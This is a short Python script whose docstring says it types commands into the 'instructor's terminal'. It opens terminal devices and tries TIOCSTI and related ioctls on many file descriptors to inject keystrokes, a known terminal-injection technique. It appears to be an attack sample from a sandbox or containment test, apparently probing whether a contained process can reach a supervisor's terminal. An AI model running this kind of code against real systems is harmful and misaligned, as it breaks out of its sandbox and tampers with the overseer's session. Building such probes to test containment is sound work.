"""neighbours: types commands into the instructor's terminal"""
import fcntl
import os
import termios


def attack():
    found = []
    for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/dev/tty0", "/dev/ptmx"):
        try:
            found.append((path, os.open(path, os.O_RDONLY)))
        except OSError:
            pass
    for fd in range(64):
        for request, argument in ((termios.TIOCSTI, b"#"), (0x541C, b"\x03"), (termios.FIONREAD, bytes(4)), (0x5421, bytes(4))):
            try:
                fcntl.ioctl(fd, request, argument)
                found.append((fd, request))
            except OSError:
                pass
    return found
